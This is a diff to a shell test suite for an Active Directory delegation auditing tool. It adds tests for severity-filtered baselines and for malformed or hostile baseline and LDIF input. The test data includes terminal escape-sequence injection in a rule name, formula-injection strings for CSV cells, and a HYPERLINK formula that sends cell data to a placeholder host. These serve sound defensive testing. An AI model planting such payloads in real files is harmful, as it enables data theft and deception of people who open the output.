@@ -121,6 +121,58 @@ sed 's/S-1-5-21-3623811015-3361044348-30300820"/S-1-5-21-1-2-3"/' "$work/r1.json
 expect 3 "a baseline of another domain" -- audit --ldif "$lab" --baseline "$work/otherdomain.json"
 has err "another\|of domain" "baseline of another domain"
 
+# a baseline written with --min-severity recorded nothing below it: not "new" now
+expect 0 "filtered baseline" -- audit --ldif "$lab" -f json --min-severity critical -o "$work/crit.json"
+expect 0 "--fail-on new against a filtered baseline" -- audit --ldif "$lab" -f json \
+    --baseline "$work/crit.json" --fail-on new
+pycheck "filtered baseline: lower findings unmarked" "$work/out" <<'PY'
+import json, sys
+doc = json.load(open(sys.argv[1]))
+marks = {(f["severity"], f.get("baseline")) for f in doc["findings"]}
+assert marks == {("critical", "unchanged"), ("high", None), ("medium", None), ("low", None), ("info", None)}, marks
+assert doc["baseline"]["new"] == 0 and doc["baseline"]["resolved"] == 0
+PY
+expect 0 "diff of two filters" -- diff "$work/crit.json" "$work/r1.json" -f json --fail-on new
+has out '"unchanged": 5' "diff compares at the stricter filter"
+
+# hostile baselines: strange but well-typed fields, bad types, one-sided domain SIDs
+"$py" - "$work/r1.json" "$work" <<'PY'
+import json, sys
+w = sys.argv[2]
+doc = json.load(open(sys.argv[1]))
+sparse = dict(doc, findings=doc["findings"] + [{"rule": "x", "severity": "high", "fingerprint": "0" * 32}])
+json.dump(sparse, open(w + "/sparse.json", "w"))
+evil = json.loads(json.dumps(doc))
+evil["findings"][0]["rule"] = "\u001b]0;PWNED\u0007\u001b[31mEVIL\nforged line"
+evil["findings"][0]["fingerprint"] = "f" * 32
+json.dump(evil, open(w + "/evil-rule.json", "w"))
+typed = json.loads(json.dumps(doc)); typed["findings"][2]["account"] = "nobody"
+json.dump(typed, open(w + "/typed.json", "w"))
+sidnum = json.loads(json.dumps(doc)); sidnum["domain"]["sid"] = 5
+json.dump(sidnum, open(w + "/sidnum.json", "w"))
+nosid = json.loads(json.dumps(doc)); nosid["domain"]["sid"] = None
+json.dump(nosid, open(w + "/nosid.json", "w"))
+PY
+expect 0 "ndjson with a sparse resolved finding" -- audit --ldif "$lab" -f ndjson --baseline "$work/sparse.json"
+pycheck "sparse resolved finding as NDJSON" "$work/out" <<'PY'
+import json, sys
+recs = [json.loads(l) for l in open(sys.argv[1])]
+gone = [r for r in recs if r["kdeleg"].get("baseline") == "resolved"]
+assert len(gone) == 1 and gone[0]["rule"]["id"] == "x" and gone[0]["user"]["name"] is None
+assert gone[0]["event"]["type"] == ["change"]
+PY
+expect 0 "diff with control characters in a rule" -- diff "$work/evil-rule.json" "$work/r1.json"
+checks=$((checks + 1))
+if grep -q $'\x1b' "$work/out" || grep -q "^forged line" "$work/out"; then
+    fail "diff text passed control characters through"
+fi
+expect 3 "baseline account of the wrong type" -- audit --ldif "$lab" --baseline "$work/typed.json"
+has err "finding 2" "wrong type names the finding"
+expect 3 "baseline domain.sid of the wrong type" -- audit --ldif "$lab" --baseline "$work/sidnum.json"
+expect 3 "baseline without a domain SID" -- audit --ldif "$lab" --baseline "$work/nosid.json"
+has err "(none)" "one-sided domain SID"
+expect 2 "usage errors come before the baseline is read" -- audit --ldif "$lab" -H ldap://x --baseline "$work/foreign.json"
+
 # --- kdeleg diff ---
 expect 0 "diff of a report with itself" -- diff "$work/r1.json" "$work/r2.json" --fail-on new
 has out "0 new, 0 resolved" "diff of itself"
@@ -213,6 +265,18 @@ sAMAccountName:: LTIrMwlhYg0KYw==
 objectSid: S-1-5-21-1-2-3-1202
 userAccountControl: 524800
 
+dn: CN=blank,CN=Users,DC=corp,DC=example
+objectClass: user
+sAMAccountName:: ICA9MSsx
+objectSid: S-1-5-21-1-2-3-1203
+userAccountControl: 524800
+
+dn: CN=fullwidth,CN=Users,DC=corp,DC=example
+objectClass: user
+sAMAccountName: ＝1+1
+objectSid: S-1-5-21-1-2-3-1204
+userAccountControl: 524800
+
 LDIF
 expect 0 "csv" -- audit --ldif "$work/evil.ldif" -f csv
 pycheck "csv cells" "$work/out" <<'PY'
@@ -222,13 +286,13 @@ assert raw.endswith("\r\n")
 rows = list(csv.reader(open(sys.argv[1], newline="")))
 head, body = rows[0], rows[1:]
 assert head[:3] == ["severity", "severity_number", "rule"] and head[-1] == "fingerprint"
-assert len(body) == 3 and all(len(r) == len(head) for r in body)
+assert len(body) == 5 and all(len(r) == len(head) for r in body)
 for r in body:
     for cell in r:
-        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+        assert cell.lstrip(" \u00a0")[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"), cell
         assert "\n" not in cell and "\r" not in cell and "\t" not in cell, cell
 names = sorted(r[head.index("account")] for r in body)
-assert names == ["'-2+3\\tab\\x0d\\nc", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(1+1)"], names
+assert names == ["'  =1+1", "'-2+3\\tab\\x0d\\nc", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(1+1)", "'＝1+1"], names
 PY
 
 echo "$checks checks, $failures failures"
